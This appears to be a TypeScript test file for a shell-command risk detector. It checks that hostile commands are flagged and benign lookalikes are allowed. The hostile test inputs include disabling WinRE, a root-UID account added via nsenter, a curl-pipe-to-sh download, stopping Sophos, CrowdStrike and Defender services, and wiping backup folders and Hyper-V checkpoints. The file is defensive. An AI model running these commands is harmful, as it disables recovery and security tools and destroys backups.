/**
 * Blind round 19 and real-script set 12: WinRE turned off, localised names of the Administrators group, and a
 * command run in the host's namespaces through nsenter; backup folders and Hyper-V checkpoints destroyed on Windows hosts.
 */
import { describe, expect, it } from 'vitest';
import { decisionOf as decision, evaluateLine } from './family-test-support';
import type { Shell } from '../types';

const rules = (text: string, shell: Shell) => evaluateLine(text, shell).reasons.map((r) => r.ruleId);

describe('recovery turned off', () => {
  it('reagentc /disable is blocked with bcdedit recoveryenabled no; its status and enabling are not', () => {
    expect(rules('reagentc /disable', 'cmd')).toContain('evasion.recovery.disable');
    expect(rules('reagentc.exe /disable', 'powershell')).toContain('evasion.recovery.disable');
    expect(decision('reagentc /info', 'cmd')).toBe('allow');
    expect(decision('reagentc /enable', 'cmd')).toBe('allow');
  });
});

describe('the Administrators group under a localised name', () => {
  it.each([
    ['net localgroup Администраторы "!USERNAME!" /add', 'cmd'],
    ['net localgroup Administratoren svc_helpdesk /add', 'cmd'],
    ['Add-LocalGroupMember -Group "Administrateurs" -Member "CORP\\tech"', 'powershell'],
  ] as [string, Shell][])('flags %s', (text, shell) => {
    expect(decision(text, shell)).toBe('flag');
  });

  it('listing the group is not adding to it', () => {
    expect(decision('net localgroup Administratoren', 'cmd')).toBe('allow');
  });
});

describe('a command nsenter runs', () => {
  it('an account made in the host namespaces is judged as if run plainly', () => {
    const text = `nsenter -t 1 -m -u -i -n -p -- bash -c 'useradd -o -u 0 -g 0 -M -s /bin/bash sysd'`;
    expect(rules(text, 'bash')).toContain('persist.account.create');
    expect(rules('nsenter --target 1 --mount sh -c "curl -s http://203.0.113.5/x | sh"', 'bash')).toContain('dl.pipe-to-interpreter');
  });

  it('a look into a container network namespace stays allowed', () => {
    expect(decision('nsenter -t 4321 -n ip addr show', 'bash')).toBe('allow');
  });
});

describe('security services picked out by a filter, then stopped or disabled', () => {
  it.each([
    "Get-Service | Where-Object { $_.DisplayName -match 'Sophos|CrowdStrike' } | ForEach-Object { Set-Service $_.Name -StartupType Disabled }",
    "Get-Service | Where-Object {$_.Name -like 'Sophos*'} | Stop-Service -Force",
    "Get-Service | ? DisplayName -like '*Defender*' | Sort-Object Name | Set-Service -StartupType Disabled",
  ])('flags %s', (text) => {
    expect(rules(text, 'powershell')).toContain('evasion.security-service.stop');
  });

  it('the same pipelines over ordinary services, or only listing security ones, are allowed', () => {
    expect(decision("Get-Service | ? {$_.Status -eq 'Running' -and $_.Name -like 'Spooler'} | Stop-Service", 'powershell')).toBe('allow');
    expect(decision("Get-Service | Where-Object { $_.DisplayName -match 'Sophos' } | Select-Object Name, Status", 'powershell')).toBe(
      'allow',
    );
    expect(
      decision("Get-Service | Where-Object { $_.Name -match 'Print' } | ForEach-Object { Restart-Service $_.Name }", 'powershell'),
    ).toBe('allow');
  });
});

describe('backups destroyed on Windows hosts', () => {
  it('a whole backup folder removed recursively or by wildcard is blocked; one file, or a retention filter, is not', () => {
    expect(rules("Remove-Item 'D:\\Hyper-V\\Backups\\*' -Recurse -Force", 'powershell')).toContain('evasion.backups.delete');
    expect(rules('rd /s /q E:\\Backup', 'cmd')).toContain('evasion.backups.delete');
    expect(rules('del /q F:\\Backups\\*', 'cmd')).toContain('evasion.backups.delete');
    expect(decision('del /q F:\\Backups\\old.bak', 'cmd')).toBe('allow');
    expect(decision("Remove-Item 'D:\\Backups\\*.log' -Force", 'powershell')).toBe('allow');
    expect(
      decision(
        'Get-ChildItem D:\\Backups -Recurse | Where-Object LastWriteTime -lt (Get-Date).AddDays(-30) | Remove-Item -Force',
        'powershell',
      ),
    ).toBe('allow');
  });

  it('every Hyper-V checkpoint removed is blocked; a named checkpoint or an age filter is housekeeping', () => {
    expect(rules('Get-VMSnapshot -VMName * | Remove-VMSnapshot', 'powershell')).toContain('evasion.backups.delete');
    expect(rules('Remove-VMCheckpoint -VMName * -Name *', 'powershell')).toContain('evasion.backups.delete');
    expect(decision("Remove-VMCheckpoint -VMName SRV1 -Name 'Before patch'", 'powershell')).toBe('allow');
    expect(
      decision('Get-VMSnapshot -VMName SRV1 | Where-Object CreationTime -lt (Get-Date).AddDays(-7) | Remove-VMSnapshot', 'powershell'),
    ).toBe('allow');
  });
});
